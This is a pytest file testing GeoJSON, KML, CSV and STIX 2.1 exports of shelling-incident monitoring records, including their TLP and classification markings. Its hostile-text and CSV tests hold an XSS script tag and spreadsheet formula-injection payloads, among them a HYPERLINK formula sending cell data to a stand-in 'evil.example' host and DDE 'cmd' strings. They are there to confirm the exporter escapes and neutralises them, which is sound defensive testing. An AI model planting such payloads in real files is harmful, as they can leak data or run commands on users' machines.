"""File exports (GeoJSON, KML, CSV, STIX 2.1) of the features the API produces.

The inputs are written by hand in the exact shape of `observation_feature`, `incident_feature`
and `incident_detail` (src/resolute/monitoring/serializers.py), so these tests need no database.
"""

from __future__ import annotations

import copy
import csv
import datetime as dt
import html
import io
import json
import re
import subprocess
import sys
import uuid
import xml.etree.ElementTree as ET

import pytest
import stix2
import stix2validator

from resolute.interop import exports
from resolute.interop.exports import to_csv, to_geojson, to_kml, to_stix

KML = "{http://www.opengis.net/kml/2.2}"
NCNAME = re.compile(r"^[A-Za-z_][A-Za-z0-9._-]*$")
HOSTILE = "<script>alert(1)</script> ]]> & \x00\x07\x0b \ud800 💥 Обстріл біля Авдіївки «ї»"

MARK_AMBER_STRICT = {"classification": "RESTRICTED", "tlp": "AMBER+STRICT", "releasable_to": ["FRA", "USA"], "originator": "FRA"}
MARK_PUBLIC = {"classification": "PUBLIC", "tlp": "CLEAR", "releasable_to": ["ALL"], "originator": "POL"}


def observation(pk=101, *, lon=37.7512345678, lat=48.1398765432, marking=None, narrative="Three impacts heard to the NE.", **over):
    """What observation_feature(o) returns for a bearing-only patrol report."""
    props = {
        "client_id": str(uuid.UUID(int=pk)),
        "channel": "patrol",
        "observer": {"lat": 48.12, "lon": 37.73, "accuracy_m": 10.0},
        "observed_from": "2024-03-01T04:05:00Z",
        "observed_to": "2024-03-01T04:06:30Z",
        "event_type": "explosion_impact",
        "perception": "heard",
        "count": 3,
        "weapon_class": "artillery_100mm_plus",
        "location": None,
        "direction": {"bearing_deg": 42.0, "bearing_sigma_deg": 5.0, "compass_sector": None, "range_min_m": 2000.0, "range_max_m": 4000.0},
        "indicative_radius_m": 1500.0,
        "narrative": narrative,
        "attachments": [],
        "source": "SMM-DON-P1",
        "grade": "B2",
        "chain": ["patrol:P1", "hub:DON"],
        "marking": copy.deepcopy(marking or MARK_AMBER_STRICT),
        "incident_id": 7,
        "received_at": "2024-03-01T04:20:11.501234Z",
    }
    props.update(over)
    return {"type": "Feature", "id": pk, "geometry": {"type": "Point", "coordinates": [lon, lat]}, "properties": props}


def incident(pk=7, *, lon=37.7689012, lat=48.1502345, marking=None, **over):
    """What incident_feature(i) returns."""
    props = {
        "event_type": "explosion_impact",
        "family": "shelling_impact",
        "status": "verified",
        "first_seen": "2024-03-01T04:05:00Z",
        "last_seen": "2024-03-01T04:09:12.250000Z",
        "located": True,
        "error_m": 420.5,
        "confidence": 0.973,
        "confidence_word": "almost certain",
        "attribution": "cross_line",
        "origin_side": "B",
        "impact_side": "A",
        "observation_count": 2,
        "marking": copy.deepcopy(marking or MARK_AMBER_STRICT),
    }
    props.update(over)
    return {"type": "Feature", "id": pk, "geometry": {"type": "Point", "coordinates": [lon, lat]}, "properties": props}


def ellipse(lon, lat, clockwise=True):
    # A small closed ring around the fix, drawn clockwise as locate.ellipse_polygon may.
    d = 0.004
    ring = [[lon - d, lat], [lon, lat + d], [lon + d, lat], [lon, lat - d], [lon - d, lat]]
    return {"type": "Polygon", "coordinates": [ring if clockwise else ring[::-1]]}


def incident_detail(pk=7, members=None, **over):
    """What incident_detail(i, members) returns: the summary plus fix, attribution, members."""
    f = incident(pk, **over)
    members = members if members is not None else [observation(101), observation(102, lon=37.79, lat=48.16, marking=MARK_PUBLIC)]
    f["properties"].update(
        {
            "fix": {
                "ok": True, "method": "bearings", "note": None, "semi_major_m": 420.5, "semi_minor_m": 180.2,
                "orientation_deg": 35.0, "cov_enu_m2": [[21000.0, 8000.0], [8000.0, 15000.0]], "chi2": 1.2, "dof": 2,
                "consistent": True, "outlier_observation_ids": [], "ellipse_95": ellipse(37.7689012, 48.1502345),
            },
            "confidence_breakdown": [{"chain": "patrol:P1", "log_odds": 2.1}, {"chain": "uav:U3", "log_odds": 1.5}],
            "attribution_detail": {
                "text": "cross-line fire, origin side B (p = 0.97), impact side A (p > 0.99)", "kind": "cross_line",
                "side_a": "UKR", "side_b": "RUS", "p_origin_side_a": 0.03, "p_impact_side_a": 0.998,
                "origin_side": "B", "impact_side": "A", "origin_incident_id": None,
            },
            "merged_into": None,
            "observation_ids": [m["id"] for m in members],
            "observations": members,
        }
    )  # fmt: skip
    return f


def decimals(x: float) -> int:
    s = repr(x)
    return len(s.split(".")[1]) if "." in s and "e" not in s else 0


# ---------------------------------------------------------------------------------------------
# GeoJSON
# ---------------------------------------------------------------------------------------------


def test_geojson_is_an_rfc7946_feature_collection():
    feats = [incident_detail(), observation(101), observation(102, lon=37.79, lat=48.16, narrative="Вибух, 3 км на північ")]
    before = copy.deepcopy(feats)
    doc = to_geojson(feats, name="Incidents, 1 March")
    assert feats == before, "the serializer output must not be modified"
    fc = json.loads(doc.decode("utf-8"))

    assert fc["type"] == "FeatureCollection"
    assert "crs" not in fc  # RFC 7946 §4
    assert fc["name"] == "Incidents, 1 March"
    assert [f["id"] for f in fc["features"]] == [7, 101, 102]
    for f in fc["features"]:
        assert f["type"] == "Feature" and f["geometry"]["type"] == "Point"
        lon, lat = f["geometry"]["coordinates"]
        assert 37 < lon < 38 and 48 < lat < 49, "lon first, lat second"
        assert decimals(lon) <= 7 and decimals(lat) <= 7
    assert fc["features"][1]["geometry"]["coordinates"] == [37.7512346, 48.1398765]
    lons = [f["geometry"]["coordinates"][0] for f in fc["features"]]
    lats = [f["geometry"]["coordinates"][1] for f in fc["features"]]
    assert fc["bbox"] == [min(lons), min(lats), max(lons), max(lats)]
    # UTF-8 text as is, not \u escapes.
    assert "Вибух".encode() in doc and b"\\u04" not in doc
    # The properties travel unchanged (markings included).
    assert fc["features"][0]["properties"]["marking"] == MARK_AMBER_STRICT
    assert fc["features"][0]["properties"]["attribution_detail"]["side_b"] == "RUS"


def test_geojson_polygons_follow_the_right_hand_rule():
    shapely_geometry = pytest.importorskip("shapely.geometry")
    outer_cw = [[30.0, 50.0], [30.0, 50.1], [30.1, 50.1], [30.1, 50.0]]  # clockwise, not closed
    hole_ccw = [[30.02, 50.02], [30.05, 50.02], [30.05, 50.05], [30.02, 50.05], [30.02, 50.02]]
    zone = {"type": "Feature", "id": "zone-1", "geometry": {"type": "Polygon", "coordinates": [outer_cw, hole_ccw]}, "properties": {"name": "zone"}}
    fc = json.loads(to_geojson([zone, incident_detail()], name="z"))

    poly = fc["features"][0]["geometry"]["coordinates"]
    assert poly[0][0] == poly[0][-1], "rings are closed"
    shape = shapely_geometry.shape(fc["features"][0]["geometry"])
    assert shape.is_valid
    assert shape.exterior.is_ccw, "exterior ring counter-clockwise"
    assert not shape.interiors[0].is_ccw, "holes clockwise"
    # The 95 % ellipse the detail carries in its properties is oriented too.
    ell = fc["features"][1]["properties"]["fix"]["ellipse_95"]
    assert shapely_geometry.shape(ell).exterior.is_ccw
    assert fc["bbox"] == [30.0, 48.1502345, 37.7689012, 50.1]


def test_text_that_utf8_cannot_carry_does_not_break_an_export():
    # A lone surrogate gets into a str through json.loads of an API body; it must not make the
    # whole file fail to encode.
    f = observation(101, narrative=HOSTILE)
    for raw in (to_geojson([f], name=HOSTILE), to_csv([f], columns=["narrative"])):
        text = raw.decode("utf-8")
        assert "\ufffd" in text and "Обстріл біля Авдіївки" in text


def test_geojson_edge_cases():
    fc = json.loads(to_geojson([], name="empty"))
    assert fc == {"type": "FeatureCollection", "name": "empty", "features": []}
    # NaN is not JSON: a non-finite value becomes null instead of an unparsable token.
    f = incident(error_m=float("nan"))
    doc = to_geojson([f], name="n")
    assert b"NaN" not in doc and json.loads(doc)["features"][0]["properties"]["error_m"] is None
    # Latitude 137 means lat/lon were swapped upstream: refuse, do not draw it somewhere else.
    with pytest.raises(ValueError):
        to_geojson([incident(lon=48.15, lat=137.77)], name="x")
    no_geom = {"type": "Feature", "id": 3, "geometry": None, "properties": {}}
    assert json.loads(to_geojson([no_geom], name="x"))["features"][0]["geometry"] is None


# ---------------------------------------------------------------------------------------------
# KML
# ---------------------------------------------------------------------------------------------


def _kml(feats, name="Incidents"):
    raw = to_kml(feats, name=name)
    return raw, ET.fromstring(raw)


def test_kml_document_placemarks_styles_and_time():
    feats = [incident_detail(), incident(8, attribution=None, family="small_arms", event_type="small_arms_fire"), observation(101)]
    raw, root = _kml(feats)
    assert raw.startswith(b"<?xml") and root.tag == f"{KML}kml"
    doc = root.find(f"{KML}Document")
    assert doc.findtext(f"{KML}name") == "Incidents"
    pms = doc.findall(f"{KML}Placemark")
    assert [p.get("id") for p in pms] == ["inc-7", "inc-8", "obs-101"]

    ids = [el.get("id") for el in root.iter() if el.get("id") is not None]
    assert all(NCNAME.match(i) for i in ids) and len(ids) == len(set(ids))
    styles = {s.get("id"): s for s in doc.findall(f"{KML}Style")}
    assert len(styles) == 3  # one per (family, attribution)
    for pm in pms:
        assert pm.findtext(f"{KML}styleUrl").lstrip("#") in styles
    # Colour by attribution: cross-line fire is red whatever the family.
    red = styles[pms[0].findtext(f"{KML}styleUrl")[1:]]
    assert red.findtext(f"{KML}IconStyle/{KML}color") == "ff0000ff"
    # An observation takes its event type's fusion family, so it shares its incident's colour.
    obs_style = pms[2].findtext(f"{KML}styleUrl")[1:]
    assert obs_style == "style-shelling_impact-none"
    assert styles[obs_style].findtext(f"{KML}IconStyle/{KML}color") == exports._FAMILY_COLOURS["shelling_impact"]

    inc = pms[0]
    assert inc.findtext(f"{KML}TimeSpan/{KML}begin") == "2024-03-01T04:05:00Z"
    assert inc.findtext(f"{KML}TimeSpan/{KML}end") == "2024-03-01T04:09:12.250000Z"
    assert inc.findtext(f"{KML}Point/{KML}coordinates") == "37.7689012,48.1502345"
    data = {d.get("name"): d.findtext(f"{KML}value") for d in inc.iter(f"{KML}Data")}
    assert data["event_type"] == "explosion_impact" and data["tlp"] == "AMBER+STRICT"
    assert data["releasable_to"] == "FRA, USA" and data["classification"] == "RESTRICTED"
    assert data["attribution_text"].startswith("cross-line fire")
    desc = inc.findtext(f"{KML}description")
    assert "almost certain" in desc and "RESTRICTED REL TO FRA, USA" in desc
    obs = pms[2]
    assert obs.findtext(f"{KML}TimeSpan/{KML}begin") == "2024-03-01T04:05:00Z"
    assert obs.findtext(f"{KML}Point/{KML}coordinates") == "37.7512346,48.1398765"


def test_kml_survives_hostile_text():
    feats = [
        observation(101, narrative=HOSTILE, name=HOSTILE),
        {"type": "Feature", "id": HOSTILE, "geometry": {"type": "Point", "coordinates": [30.5, 50.4]}, "properties": {"name": HOSTILE, "family": HOSTILE, "attribution": "&]]>"}},
        {"type": "Feature", "id": HOSTILE, "geometry": {"type": "Point", "coordinates": [30.6, 50.5]}, "properties": {"name": "дубль"}},
        {"type": "Feature", "id": "123", "geometry": {"type": "Point", "coordinates": [30.7, 50.6]}, "properties": {}},
        {"type": "Feature", "id": None, "geometry": None, "properties": None},
    ]
    raw, root = _kml(feats, name=HOSTILE)  # ET.fromstring raising would fail the test
    assert b"<script" not in raw and b"\x00" not in raw
    ids = [el.get("id") for el in root.iter() if el.get("id") is not None]
    assert all(NCNAME.match(i) for i in ids), ids
    assert len(ids) == len(set(ids)), "ids unique even when the data repeats or mangles them"
    pms = root.findall(f"{KML}Document/{KML}Placemark")
    assert len(pms) == len(feats)
    assert pms[3].get("id") == "feat-123", "a purely numeric id is not an xs:ID"

    name = pms[0].findtext(f"{KML}name")
    # The text survives XML escaping intact, minus what XML 1.0 cannot carry.
    assert "<script>alert(1)</script> ]]> &" in name and "💥" in name and "Обстріл біля Авдіївки «ї»" in name
    assert "\x00" not in name and "\x07" not in name and "\ud800" not in name
    for pm in pms:
        desc = pm.findtext(f"{KML}description")
        # Google Earth renders the description as HTML: no markup from the data may get there.
        assert "<" not in desc and ">" not in desc
    assert "<script>alert(1)</script>" in html.unescape(pms[0].findtext(f"{KML}description"))
    assert root.find(f"{KML}Document").findtext(f"{KML}name").startswith("<script>")


# ---------------------------------------------------------------------------------------------
# CSV
# ---------------------------------------------------------------------------------------------

COLUMNS = ["event_type", "narrative", "grade", "source", "count", "offset_m", "bias", "marking", "marking.tlp", "observer", "missing"]


def _rows(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_csv_neutralises_formulas_but_keeps_numbers():
    attacks = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tx=1", "\r=1+1"]
    feats = [
        observation(200 + i, narrative=a, source=a, grade=a, offset_m=-12.5, bias=-3)
        for i, a in enumerate(attacks)
    ]
    feats.append(observation(300, narrative="Обстріл, 5 вибухів; \"лапки\"\nновий рядок", offset_m=-0.25, bias="-12.5"))
    raw = to_csv(feats, columns=COLUMNS)

    assert raw.startswith(b"\xef\xbb\xbf"), "BOM so Excel reads UTF-8"
    body = raw[3:]
    assert body.endswith(b"\r\n")
    # Every record ends CRLF (RFC 4180); the only bare LF is the one inside the quoted narrative.
    assert body.count(b"\n") - body.count(b"\r\n") == 1

    rows = _rows(raw)
    assert rows[0] == ["id", "lon", "lat", *COLUMNS]
    assert len(rows) == len(feats) + 1
    for row, attack in zip(rows[1:], attacks):
        rec = dict(zip(rows[0], row))
        for col in ("narrative", "source", "grade"):
            assert rec[col] == "'" + attack, col
            assert not rec[col].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert rec["offset_m"] == "-12.5" and float(rec["offset_m"]) == -12.5, "negative numbers stay numbers"
        assert rec["bias"] == "-3"
        assert rec["id"].isdigit() and float(rec["lon"]) == 37.7512346 and float(rec["lat"]) == 48.1398765
        assert json.loads(rec["marking"]) == MARK_AMBER_STRICT, "nested values as JSON"
        assert rec["marking.tlp"] == "AMBER+STRICT"
        assert json.loads(rec["observer"]) == {"lat": 48.12, "lon": 37.73, "accuracy_m": 10.0}
        assert rec["missing"] == "" and rec["count"] == "3"
    last = dict(zip(rows[0], rows[-1]))
    assert last["narrative"] == "Обстріл, 5 вибухів; \"лапки\"\nновий рядок"
    assert last["offset_m"] == "-0.25"
    assert last["bias"] == "'-12.5", "a string that looks like a number is still a string"


def test_csv_edge_cases():
    raw = to_csv([], columns=["=evil"])
    assert _rows(raw) == [["id", "lon", "lat", "'=evil"]]
    f = {"type": "Feature", "id": "=1+1", "geometry": None, "properties": {"ok": True, "x": float("inf"), "n": None}}
    assert _rows(to_csv([f], columns=["ok", "x", "n"]))[1] == ["'=1+1", "", "", "true", "", ""]
    with pytest.raises(TypeError):
        to_csv([f], columns="ok")


# ---------------------------------------------------------------------------------------------
# STIX 2.1
# ---------------------------------------------------------------------------------------------

CREATED = "2024-03-02T06:00:00Z"
# Two SHOULD-level checks are switched off, for documented reasons; everything else is strict
# (warnings count as errors, no custom types or properties, every reference resolvable in the
# bundle). test_stix_only_documented_deviations shows these two are the only findings.
#  - uuid-check (103): ids are UUIDv5 of the record ids so re-exports are stable; STIX 2.1 §2.9
#    allows non-v4 SDO ids from a namespace that is not the OASIS SCO namespace.
#  - relationship-types (202): STIX 2.1 defines no relationships for the stub `incident` SDO;
#    'located-at' is "permitted, but not suggested", and it is what consumers map to a position.
DEVIATIONS = {"103": "uuid-check", "202": "relationship-types"}


def _options(disabled=None):
    disabled = DEVIATIONS.values() if disabled is None else disabled
    return stix2validator.ValidationOptions(
        version="2.1", strict=True, strict_types=True, strict_properties=True, enforce_refs=True, disabled=list(disabled)
    )


def _validate(raw: bytes, **kw):
    return stix2validator.validate_string(raw.decode("utf-8"), _options(**kw))


def _error_codes(result) -> set[str]:
    results = result if isinstance(result, list) else [result]
    codes = set()
    for r in results:
        for e in r.errors or []:
            m = re.search(r"\{(\d+)\}", str(e))
            codes.add(m.group(1) if m else str(e))
    return codes


def _bundle(incidents=None, obs=None, **kw):
    incidents = incidents if incidents is not None else [incident_detail(), incident(8, located=False, error_m=None, confidence=None, confidence_word="", attribution=None, marking=MARK_PUBLIC)]
    raw = to_stix(incidents, obs if obs is not None else {}, identity_name=kw.pop("identity_name", "Coalition Monitoring Mission"), created=kw.pop("created", CREATED))
    return raw, json.loads(raw)


def _by_type(bundle, t):
    return [o for o in bundle["objects"] if o["type"] == t]


def test_stix_bundle_validates_strictly_and_parses():
    raw, bundle = _bundle()
    result = _validate(raw)
    assert result.is_valid, _error_codes(result)
    parsed = stix2.parse(raw.decode("utf-8"), allow_custom=False)
    assert parsed.type == "bundle" and len(parsed.objects) == len(bundle["objects"])


def test_stix_only_documented_deviations():
    raw, _ = _bundle()
    result = _validate(raw, disabled=())
    assert _error_codes(result) <= set(DEVIATIONS), _error_codes(result)


def test_stix_model_incident_location_sighting():
    _, b = _bundle()
    assert b["type"] == "bundle" and "spec_version" not in b  # 2.1 bundles carry none
    (ident,) = _by_type(b, "identity")
    assert ident["name"] == "Coalition Monitoring Mission"
    incs = {o["external_references"][0]["external_id"]: o for o in _by_type(b, "incident")}
    assert set(incs) == {"inc-7", "inc-8"}
    inc7 = incs["inc-7"]
    assert inc7["confidence"] == 97
    assert "almost certain" in inc7["description"]
    assert "cross-line fire, origin side B (p = 0.97), impact side A (p > 0.99)" in inc7["description"]
    assert "confidence" not in incs["inc-8"]
    assert all(o["created_by_ref"] == ident["id"] for o in b["objects"] if o["type"] not in ("identity", "marking-definition") or "created_by_ref" in o)

    rels = _by_type(b, "relationship")
    locs = {o["id"]: o for o in _by_type(b, "location")}
    assert len(rels) == 2 and len(locs) == 2
    rel7 = next(r for r in rels if r["source_ref"] == inc7["id"])
    assert rel7["relationship_type"] == "located-at"
    loc7 = locs[rel7["target_ref"]]
    assert (loc7["latitude"], loc7["longitude"], loc7["precision"]) == (48.1502345, 37.7689012, 420.5)
    loc8 = locs[next(r for r in rels if r["source_ref"] == incs["inc-8"]["id"])["target_ref"]]
    assert "precision" not in loc8, "no fix, no claimed precision"

    sightings = {s["external_references"][0]["external_id"]: s for s in _by_type(b, "sighting")}
    assert set(sightings) == {"obs-101", "obs-102"}, "the detail's member observations"
    s = sightings["obs-101"]
    assert s["sighting_of_ref"] == inc7["id"] and s["where_sighted_refs"] == [loc7["id"]]
    assert (s["first_seen"], s["last_seen"], s["count"]) == ("2024-03-01T04:05:00.000Z", "2024-03-01T04:06:30.000Z", 3)


def test_stix_markings_on_every_object():
    _, b = _bundle()
    tlp = exports.TLP_MARKING_DEFINITIONS
    mdefs = {o["id"]: o for o in _by_type(b, "marking-definition")}
    statements = {o["definition"]["statement"]: o["id"] for o in mdefs.values() if o.get("definition_type") == "statement"}
    assert set(statements) == {"RESTRICTED REL TO FRA, USA", "PUBLIC REL TO ALL"}, "one per distinct value"
    # The TLP 2.0 definitions are the OASIS objects, byte for byte.
    assert mdefs[tlp["AMBER+STRICT"]["id"]] == tlp["AMBER+STRICT"]
    assert tlp["AMBER+STRICT"]["id"] == "marking-definition--939a9414-2ddd-4d32-a0cd-375ea402b003"
    assert tlp["CLEAR"]["id"] == "marking-definition--94868c89-83c2-464b-929b-a1a8aa3c8487"

    tlp_ids = {d["id"] for d in tlp.values()}
    for o in b["objects"]:
        if o["type"] == "marking-definition":
            continue
        refs = o["object_marking_refs"]
        assert all(r in mdefs for r in refs)
        assert len([r for r in refs if r in tlp_ids]) == 1, "exactly one TLP marking"
    inc7 = next(o for o in _by_type(b, "incident") if o["external_references"][0]["external_id"] == "inc-7")
    assert inc7["object_marking_refs"] == [tlp["AMBER+STRICT"]["id"], statements["RESTRICTED REL TO FRA, USA"]]
    s102 = next(o for o in _by_type(b, "sighting") if o["external_references"][0]["external_id"] == "obs-102")
    assert s102["object_marking_refs"] == [tlp["CLEAR"]["id"], statements["PUBLIC REL TO ALL"]]


@pytest.mark.parametrize("level", ["CLEAR", "GREEN", "AMBER", "AMBER+STRICT", "RED"])
def test_stix_every_tlp_level(level):
    mark = {"classification": "CONFIDENTIAL", "tlp": level, "releasable_to": ["USA", "GBR"], "originator": "GBR"}
    raw, b = _bundle([incident(9, marking=mark)], {9: [observation(111, marking=mark)]})
    assert _validate(raw).is_valid
    stix2.parse(raw.decode("utf-8"), allow_custom=False)
    want = exports.TLP_MARKING_DEFINITIONS[level]["id"]
    (inc,) = _by_type(b, "incident")
    assert want in inc["object_marking_refs"]
    assert any(o.get("definition", {}).get("statement") == "CONFIDENTIAL REL TO GBR, USA" for o in b["objects"])


def test_stix_ids_are_deterministic():
    raw1, b1 = _bundle()
    raw2, _ = _bundle()
    assert raw1 == raw2, "re-export of the same records is byte-identical"
    raw3, _ = _bundle(created=dt.datetime(2024, 3, 2, 8, 0, tzinfo=dt.timezone(dt.timedelta(hours=2))))
    assert raw3 == raw1, "a datetime in another zone is the same instant"
    ids = [o["id"] for o in b1["objects"] if not o["id"].startswith("marking-definition--9") and "--" in o["id"]]
    own = [i for i in ids if i not in {d["id"] for d in exports.TLP_MARKING_DEFINITIONS.values()}]
    assert all(uuid.UUID(i.split("--")[1]).version == 5 for i in own)
    _, other = _bundle(identity_name="Another Mission")
    assert {o["id"] for o in _by_type(other, "incident")}.isdisjoint(o["id"] for o in _by_type(b1, "incident"))


def test_stix_hostile_text_and_observation_mapping():
    obs = {7: [observation(101, narrative=HOSTILE, observed_to="2024-03-01T04:00:00Z")]}
    raw, b = _bundle([incident(7)], obs)
    assert _validate(raw).is_valid
    stix2.parse(raw.decode("utf-8"), allow_custom=False)
    (s,) = _by_type(b, "sighting")
    assert "Обстріл біля Авдіївки" in s["description"]
    assert s["last_seen"] == s["first_seen"], "an inverted window is clamped, not rejected by consumers"


def test_stix_refuses_unmarked_or_unknown_tlp():
    with pytest.raises(ValueError):
        _bundle([incident(marking={**MARK_AMBER_STRICT, "tlp": "PURPLE"})])
    bad = incident()
    del bad["properties"]["marking"]
    with pytest.raises(ValueError):
        _bundle([bad])


def test_exports_module_does_not_import_django():
    code = "import sys, resolute.interop.exports; sys.exit(any(m == 'django' or m.startswith('django.') for m in sys.modules))"
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0
